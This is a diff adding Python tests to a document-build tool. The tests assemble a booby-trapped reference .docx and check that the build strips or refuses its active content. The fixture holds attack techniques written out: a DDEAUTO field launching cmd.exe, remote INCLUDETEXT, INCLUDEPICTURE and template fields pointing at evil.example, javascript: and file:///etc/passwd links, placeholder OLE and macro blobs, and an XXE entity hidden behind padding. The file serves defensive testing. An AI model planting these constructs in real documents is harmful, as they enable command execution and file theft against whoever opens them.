@@ -483,3 +483,103 @@ def test_second_build_on_the_same_folder_is_refused(project):
     code, out, err = run_cli("build", "--project", str(project), "--jobs", "0", "--format", "html",
                              "--out", str(out_dir))
     assert code == 0, out + err
+
+
+# --- 4. a reference .docx is a Trojan horse -----------------------------------------------
+
+EVIL_HEADER = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+    'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">'
+    '<w:p><w:r><w:t>Coalition header</w:t></w:r>'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
+    '"/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>dde</w:t></w:r>'
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    '<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x.txt&quot; "><w:r><w:t>inc</w:t></w:r></w:fldSimple>'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/p.png" \\\\d'
+    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r>'
+    '<w:r><w:pict><v:imagedata r:id="rIdRemote"/></w:pict></w:r>'
+    '<w:hyperlink r:id="rIdLink"><w:r><w:t>click</w:t></w:r></w:hyperlink>'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    '</w:p></w:hdr>')
+
+
+def evil_reference(tmp_path: Path, padding_doctype: bool = False) -> bytes:
+    src = zipfile.ZipFile(ROOT / "templates" / "default" / "reference.docx")
+    parts = {n: src.read(n) for n in src.namelist()}
+    rels = parts["word/_rels/document.xml.rels"].decode()
+    rels = rels.replace("</Relationships>",
+                        '<Relationship Id="rIdH1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                        'relationships/header" Target="header1.xml"/>'
+                        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
+                        'vbaProject" Target="vbaProject.bin"/>'
+                        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                        'relationships/hyperlink" Target="file:///etc/passwd" TargetMode="External"/>'
+                        "</Relationships>")
+    parts["word/_rels/document.xml.rels"] = rels.encode()
+    parts["word/header1.xml"] = EVIL_HEADER.encode()
+    parts["word/_rels/header1.xml.rels"] = (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'relationships"><Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rIdRemote" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
+        'Target="http://evil.example/track.png" TargetMode="External"/><Relationship Id="rIdLink" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
+        'Target="javascript:alert(1)" TargetMode="External"/></Relationships>').encode()
+    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0OLE-PAYLOAD"
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0MACRO-PAYLOAD"
+    settings = parts["word/settings.xml"].decode()
+    settings = settings.replace('<w:zoom w:val="bestFit"/>', '<w:zoom w:val="bestFit"/><w:attachedTemplate '
+                                'r:id="rIdT"/>').replace("<w:defaultTabStop", "<w:updateFields w:val=\"true\"/>"
+                                                                               "<w:defaultTabStop")
+    parts["word/settings.xml"] = settings.encode()
+    parts["word/_rels/settings.xml.rels"] = (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/attachedTemplate" Target="http://evil.example/macros.dotm" TargetMode="External"/>'
+        "</Relationships>").encode()
+    document = parts["word/document.xml"].decode()
+    parts["word/document.xml"] = document.replace(
+        "<w:pgSz", '<w:headerReference w:type="default" r:id="rIdH1"/><w:pgSz', 1).replace(
+        "<w:body>", "<w:body><w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>").encode()
+    if padding_doctype:
+        styles = parts["word/styles.xml"].decode()
+        head, rest = styles.split("?>", 1)
+        parts["word/styles.xml"] = (head + "?><!--" + "x" * 10_000 + '--><!DOCTYPE w [<!ENTITY e SYSTEM '
+                                    '"file:///etc/passwd">]>' + rest).encode()
+    types = parts["[Content_Types].xml"].decode().replace(
+        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+                    '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-'
+                    'officedocument.wordprocessingml.header+xml"/></Types>')
+    parts["[Content_Types].xml"] = types.encode()
+    return zip_bytes(parts)
+
+
+def test_reference_docx_active_content_is_never_copied(project, tmp_path):
+    reference(project, evil_reference(tmp_path))
+    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", "docx",
+                             "--out", str(project / "out"), "--jobs", "0")
+    assert code == 0, out + err
+    with zipfile.ZipFile(project / "out" / "en" / "good.docx") as z:
+        names = z.namelist()
+        everything = b"".join(z.read(n) for n in names)
+        header = next(z.read(n).decode() for n in names if n.startswith("word/header") and
+                      b"Coalition header" in z.read(n))
+    assert not [n for n in names if "vba" in n.lower() or "embeddings" in n or "oleObject" in n], names
+    for bad in (b"DDEAUTO", b"INCLUDETEXT", b"INCLUDEPICTURE", b"attachedTemplate", b"evil.example", b"javascript:",
+                b"file:///", b"OLE-PAYLOAD", b"MACRO-PAYLOAD", b"updateFields", b"OLEObject"):
+        assert bad not in everything, bad
+    assert "PAGE" in header  # the harmless page-number field of the header stays
+    assert 'TargetMode="External"' not in header
+
+
+def test_reference_docx_entities_beyond_the_first_4096_bytes_are_refused(project, tmp_path):
+    reference(project, evil_reference(tmp_path, padding_doctype=True))
+    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", "docx",
+                             "--out", str(project / "out"), "--jobs", "0")
+    assert code == 1
+    assert "templates/evil/reference.docx: error: reference document part word/styles.xml declares XML entities" \
+        in out + err, out + err
